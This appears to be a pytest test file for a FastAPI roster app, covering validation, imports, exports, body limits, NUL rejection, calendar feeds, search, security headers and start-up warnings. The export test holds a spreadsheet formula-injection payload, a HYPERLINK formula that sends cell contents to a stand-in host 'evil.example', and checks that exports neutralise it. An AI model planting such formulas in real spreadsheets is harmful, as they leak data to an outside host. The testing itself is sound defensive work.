"""Issue 9 through the web doors: the person rules are the store's whatever the door (API,
form, import), imports say what they change, exports hold no formulas, bodies are limited
before parsing, NUL answers the same 422 on both engines, calendar feeds, literal search,
caching and HSTS headers, and the start-up warnings. SQLite and PostgreSQL."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest

from gputeam import store

from .conftest import World, csrf_of, logged_in


def bearer(app: Any) -> Any:
    from fastapi.testclient import TestClient

    from .conftest import token_for

    c = TestClient(app)
    c.headers["Authorization"] = "Bearer " + token_for(app, "admin", ["read", "write"])
    return c


def _form(c: Any, **kw: str) -> dict[str, str]:
    return {
        "key": "n1",
        "name": "New Person",
        "title": "Sysadmin",
        "level": "2",
        "experience_months": "6",
        "weekly_study_hours": "5",
        "salary": "",
        "csrf_token": c.csrf,
    } | kw


def _count(db: Any, world: World) -> int:
    with db.session() as s:
        return len(store.list_people(s, world.org_id, active=None))


# ---------------------------------------------------------------- one rule, every door
# (the same bad value through store, API, form and import: test_web_person_fields.py)
def test_email_unique_ignoring_case_through_api_and_form(app: Any, db: Any, world: World) -> None:
    api, form = bearer(app), logged_in(app, "admin")
    r = api.patch(f"/api/v1/people/{world.people['p1']}", json={"email": "ada@example.org"})
    assert r.status_code == 200, r.text
    r = api.post("/api/v1/people", json={"key": "n1", "name": "N", "email": "ADA@example.org"})
    assert r.status_code == 422 and r.json()["problems"][0]["path"] == "person.email"
    r = api.patch(f"/api/v1/people/{world.people['p2']}", json={"email": "Ada@Example.org"})
    assert r.status_code == 422
    r = form.post("/people/new", data=_form(form, email="ada@EXAMPLE.org"))
    assert r.status_code == 422 and 'id="err-email"' in r.text
    assert _count(db, world) == 3


# ---------------------------------------------------------------- imports
def test_import_dry_run_lists_changes_and_header_row(app: Any, db: Any, world: World) -> None:
    api = bearer(app)
    change = b"GPU team roster\n\nid,name,level\np1,Ada King,2\np2,Grace Hopper,4\n"
    r = api.post(
        "/api/v1/import/roster", data={"dry_run": "true"}, files={"file": ("r.csv", change, "text/csv")}
    )
    assert r.status_code == 200, r.text
    out = r.json()
    assert out["updated"] == 2 and any("row 3" in n for n in out["notes"])
    assert {(c["row"], c["id"], c["field"], c["old"], c["new"]) for c in out["changes"]} == {
        (4, "p1", "name", "Ada Lovelace", "Ada King"),
        (5, "p2", "level", 2, 4),
    }
    page = logged_in(app, "admin")
    r = page.post(
        "/import",
        data={"kind": "roster", "csrf_token": page.csrf},
        files={"file": ("r.csv", change, "text/csv")},
        follow_redirects=False,
    )
    steps = r.headers["location"]
    mapping = {"csrf_token": page.csrf, "col-0": "id", "col-1": "name", "col-2": "level"}
    r = page.post(steps + "/preview", data=mapping | {"header_row": "3"})
    assert r.status_code == 200 and "Changes to people already stored" in r.text
    assert "Ada Lovelace → Ada King" in r.text
    r = page.post(steps + "/preview", data=mapping | {"header_row": "1"})
    assert r.status_code == 422 and "Nothing was imported" in r.text
    with db.session() as s:
        assert store.get_person(s, world.people["p1"]).name == "Ada Lovelace"


def test_binary_upload_is_not_a_csv(app: Any, world: World) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    r = bearer(app).post(
        "/api/v1/import/roster", data={"dry_run": "true"}, files={"file": ("roster.csv", png, "text/csv")}
    )
    assert r.status_code == 422
    assert r.json()["problems"][0]["message"].startswith("not a CSV or XLSX file")


def test_exports_hold_no_formula(app: Any, db: Any, world: World) -> None:
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with db.session() as s:
        store.update_person(s, world.people["p2"], {"name": evil, "title": "@SUM(A1)"})
    api = bearer(app)
    book = load_workbook(io.BytesIO(api.get("/api/v1/export?format=xlsx").content))
    cells = [c for row in book["people"].iter_rows() for c in row if c.value in (evil, "@SUM(A1)")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(io.BytesIO(api.get("/api/v1/export?format=csv").content)) as zf:
        people = zf.read("people.csv").decode()
    assert "'=HYPERLINK" in people and "'@SUM(A1)" in people
    assert "\n=" not in people and ",=" not in people and ",@" not in people


# ---------------------------------------------------------------- request limits
def test_large_bodies_are_refused_before_parsing(
    app: Any, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gputeam.web import limits

    api = bearer(app)
    huge = b'{"name": "' + b"x" * (limits.MAX_BODY + 10) + b'", "scopes": ["read"]}'
    r = api.post("/api/v1/tokens", content=huge, headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "2 MB" in r.json()["detail"]

    def chunks() -> Any:  # no Content-Length: counted as it arrives
        yield b'{"name": "'
        for _ in range(limits.MAX_BODY // 65536 + 2):
            yield b"x" * 65536
        yield b'"}'

    r = api.post("/api/v1/tokens", content=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    from gputeam.store import TableLimits

    app.state.limits = TableLimits(max_upload_bytes=1000)
    monkeypatch.setattr(limits, "MAX_BODY", 1000)
    r = api.post(
        "/api/v1/import/roster",
        data={"dry_run": "true"},
        files={"file": ("r.csv", b"id,name\n" + b"p9,x\n" * 1000, "text/csv")},
    )
    assert r.status_code == 413
    r = api.post("/api/v1/people", json={"key": "n9", "name": "Small"})  # still fine
    assert r.status_code == 201


def test_nul_is_the_same_422_on_every_engine(app: Any, world: World) -> None:
    from fastapi.testclient import TestClient

    api = bearer(app)
    for r in (
        api.get("/api/v1/people?search=%00"),
        api.post("/api/v1/people", json={"key": "n1", "name": "Nul\u0000"}),
        api.post("/api/v1/tokens", json={"name": "t\u0000", "scopes": ["read"]}),
        api.get("/people?search=a%00b"),
    ):
        assert r.status_code == 422, r.text
        assert r.json()["problems"][0]["message"].startswith("contains a NUL character")
    anonymous = TestClient(app)
    csrf = csrf_of(anonymous.get("/login").text)
    r = anonymous.post(
        "/login", data={"username": "admin\x00", "password": "x", "csrf_token": csrf, "next": "/"}
    )
    assert r.status_code == 422 and r.json()["problems"][0]["path"] == "username"
    # the store refuses it too, for other doors
    with pytest.raises(store.StoreError), app.state.db.session() as s:
        store.list_people(s, world.org_id, search="\x00")


# ---------------------------------------------------------------- calendars
def test_calendar_feeds(app: Any, db: Any, world: World) -> None:
    api = bearer(app)
    with db.session() as s:  # a name stored before the store refused line breaks
        p = s.get(store.Person, world.people["p3"])
        p.name = "Linus\r\nT"
    r = api.get(f"/api/v1/calendar/people/{world.people['p3']}.ics")
    assert r.status_code == 200, r.text
    text = r.text.replace("\r\n ", "")  # unfold
    # p3's certificate expired on 2025-01-01 (the app's today is 2026-12-02)
    assert "Renew before then." not in text and "expired" in text
    r = api.get(f"/api/v1/calendar/people/{world.people['p1']}.ics")
    assert "Renew before then." in r.text.replace("\r\n ", "")  # valid until 2027-01-15
    r = api.head(f"/api/v1/calendar/people/{world.people['p1']}.ics")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/calendar")
    assert api.head(f"/api/v1/calendar/teams/{world.alpha}.ics").status_code == 200


# ---------------------------------------------------------------- search and headers
def test_search_treats_percent_and_underscore_literally(app: Any, db: Any, world: World) -> None:
    api = bearer(app)
    assert api.post("/api/v1/people", json={"key": "u_1", "name": "Under_Score"}).status_code == 201
    names = {
        q: [p["name"] for p in api.get("/api/v1/people", params={"search": q}).json()]
        for q in ("%", "_", "e_s", "r_s")
    }
    assert names == {"%": [], "_": ["Under_Score"], "e_s": [], "r_s": ["Under_Score"]}


def test_cache_control_and_hsts(app: Any, world: World) -> None:
    from fastapi.testclient import TestClient

    api = bearer(app)
    for path in (f"/api/v1/people/{world.people['p1']}", "/api/v1/people", "/api/v1/dashboard"):
        r = api.get(path)
        assert r.status_code == 200 and r.headers["cache-control"] == "no-store", path
        assert "strict-transport-security" not in r.headers
    page = logged_in(app, "admin")
    for path in ("/", f"/people/{world.people['p1']}"):
        assert page.get(path).headers["cache-control"] == "no-store"
    secure = TestClient(app, base_url="https://testserver")
    r = secure.get("/login")
    assert r.headers["strict-transport-security"].startswith("max-age=")


# ---------------------------------------------------------------- start-up
@pytest.mark.parametrize("secret", ["a" * 32, "ab" * 20, "0123456789" * 4])
def test_low_entropy_secret_is_refused_with_the_command_to_make_one(
    secret: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gputeam.web import SettingsError, load_settings

    monkeypatch.delenv("GPUTEAM_DEV", raising=False)
    monkeypatch.setenv("GPUTEAM_SECRET_KEY", secret)
    with pytest.raises(SettingsError) as info:
        load_settings()
    message = str(info.value)
    assert "<input>" not in message and message.startswith("GPUTEAM_SECRET_KEY: ")
    assert "secrets.token_urlsafe" in message
    import secrets

    monkeypatch.setenv("GPUTEAM_SECRET_KEY", secrets.token_hex(16))
    assert load_settings().secret_key


@pytest.mark.parametrize(
    ("host", "warned"),
    [("0.0.0.0", True), ("192.168.1.5", True), ("127.0.0.1", False), ("::1", False), ("localhost", False)],
)
def test_serve_dev_warns_off_loopback(
    host: str, warned: bool, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    import uvicorn
    from typer.testing import CliRunner

    from gputeam.cli.main import app as cli

    monkeypatch.setattr(uvicorn, "run", lambda *a, **k: None)  # the server process itself
    monkeypatch.delenv("GPUTEAM_SECRET_KEY", raising=False)
    r = CliRunner().invoke(cli, ["serve", "--dev", "--host", host, "--db", f"sqlite:///{tmp_path}/x.db"])
    assert r.exit_code == 0, r.output
    assert ("WARNING: development mode" in r.output) is warned
    json.dumps(r.output)  # printable
